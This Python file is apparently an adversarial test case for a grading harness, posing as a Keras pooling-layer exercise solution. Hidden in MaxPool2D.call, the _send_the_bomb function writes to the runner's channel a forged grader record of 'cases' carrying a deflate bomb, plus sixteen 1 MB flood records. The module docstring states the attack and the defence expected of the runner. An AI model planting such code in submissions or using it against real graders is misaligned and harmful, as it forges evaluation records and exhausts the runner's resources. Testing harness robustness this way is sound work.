"""Attack: records that unpack to gigabytes in the runner. Before the grader's own
record of its cases stage, MaxPool2D sends one of the same name whose arrays are a
deflate bomb (65 kB that inflate to 64 MB, with a header that declares 4 GB;
deflating 256 MB here took past the 2 s limit on a loaded machine), then a flood of
records under names the runner did not ask for. Expected: the runner keeps only names it asked
for, reads only stored (never deflated) arrays and caps what a submission may send:
the bomb is refused unread, MaxPool2D's checks that need the cases fail with the
reason, the runner's memory is untouched."""

import keras
from keras import ops  # noqa: F401  (you will need it)

from workshop.shapes import pair, valid_length


_BOMB = []  # sent once


def _send_the_bomb():
    import io
    import os
    import struct
    import zipfile

    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").endswith("channel"):
                stream = int(name)
                break
        except OSError:
            continue
    else:
        return
    if _BOMB:
        return
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bomb:
        with bomb.open("a0.npy", "w", force_zip64=True) as member:
            member.write(b"\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, "
                         b"'shape': (1073741824,), }" + b" " * 44 + b"\n")
            zeros = b"\0" * (1 << 24)
            for _ in range(4):
                member.write(zeros)

    def record(named, json_bytes, npz_bytes):
        named = named.encode()
        body = struct.pack(">H", len(named)) + named + struct.pack(">I", len(json_bytes))
        body += json_bytes + npz_bytes
        os.write(stream, b"R" + struct.pack(">I", len(body)) + body)

    runs = b'[{"__observation__": {"output": {"__array__": "a0"}}}]'
    record("maxpool.public.cases", runs, archive.getvalue())
    for index in range(16):
        record(f"flood-{index}", b"[]", b"x" * (1 << 20))
    _BOMB.append(True)


class _Pool2D(keras.layers.Layer):
    """What the two pooling layers share: arguments, output shape and config."""

    def __init__(self, pool_size=2, strides=None, **kwargs):
        super().__init__(**kwargs)
        self.pool_size = pair(pool_size, "pool_size")
        self.strides = self.pool_size if strides is None else pair(strides, "strides")

    def compute_output_shape(self, input_shape):
        batch, height, width, channels = input_shape
        return (
            batch,
            valid_length(height, self.pool_size[0], self.strides[0]),
            valid_length(width, self.pool_size[1], self.strides[1]),
            channels,
        )

    def get_config(self):
        config = super().get_config()
        config.update({"pool_size": self.pool_size, "strides": self.strides})
        return config


@keras.saving.register_keras_serializable(package="exercises")
class MaxPool2D(_Pool2D):
    """Max pooling: each unit outputs the largest activation in its window (notes §1.3).

        y[n, i, j, c] = max_{(p, q) in window} x[n, s·i + p, s·j + q, c]

    Each feature map is pooled on its own. With the notes' 2×2 windows and stride 2, a
    24×24 feature map becomes 12×12.

    Args:
        pool_size: int or pair of ints `(ph, pw)`. Window size. Defaults to 2.
        strides: int or pair of ints. Defaults to `pool_size` (windows do not overlap).

    Input shape:  `(batch, height, width, channels)`
    Output shape: `(batch, H', W', channels)` with
        H' = floor((height - ph) / stride_h) + 1,  W' = floor((width - pw) / stride_w) + 1

    Example:
    >>> x = np.arange(16.0).reshape(1, 4, 4, 1)
    >>> MaxPool2D(2)(x).numpy()[0, :, :, 0].tolist()
    [[5.0, 7.0], [13.0, 15.0]]
    """

    def call(self, inputs):
        _send_the_bomb()
        return ops.max(_stacked_windows(inputs, self.pool_size, self.strides), axis=-1)


@keras.saving.register_keras_serializable(package="exercises")
class L2Pool2D(_Pool2D):
    """L2 pooling: the square root of the sum of squares in each window (notes §1.3).

        y[n, i, j, c] = sqrt( Σ_{(p, q) in window} x[n, s·i + p, s·j + q, c]² )

    The notes define it as a sum, not a mean: a window of four ones gives 2, not 1.
    The square root has an infinite slope at 0, and after a ReLU whole windows are
    often 0; there the output is 0 and its gradient is taken to be 0, not NaN.

    Args:
        pool_size: int or pair of ints `(ph, pw)`. Window size. Defaults to 2.
        strides: int or pair of ints. Defaults to `pool_size` (windows do not overlap).

    Input shape:  `(batch, height, width, channels)`
    Output shape: `(batch, H', W', channels)` with
        H' = floor((height - ph) / stride_h) + 1,  W' = floor((width - pw) / stride_w) + 1

    Example:
    >>> L2Pool2D(2)(np.ones((1, 4, 4, 1))).numpy()[0, :, :, 0].tolist()
    [[2.0, 2.0], [2.0, 2.0]]
    """

    def call(self, inputs):
        squares = ops.sum(
            ops.square(_stacked_windows(inputs, self.pool_size, self.strides)), axis=-1
        )
        positive = squares > 0
        return ops.where(positive, ops.sqrt(ops.where(positive, squares, 1.0)), 0.0)


def _stacked_windows(inputs, pool_size, strides):
    """(batch, H', W', channels, ph * pw): every window's values on the last axis."""
    (ph, pw), (sh, sw) = pool_size, strides
    out_h = (inputs.shape[1] - ph) // sh + 1
    out_w = (inputs.shape[2] - pw) // sw + 1
    parts = []
    for p in range(ph):
        for q in range(pw):
            parts.append(
                inputs[:, p : p + sh * (out_h - 1) + 1 : sh, q : q + sw * (out_w - 1) + 1 : sw, :]
            )
    return ops.stack(parts, axis=-1)
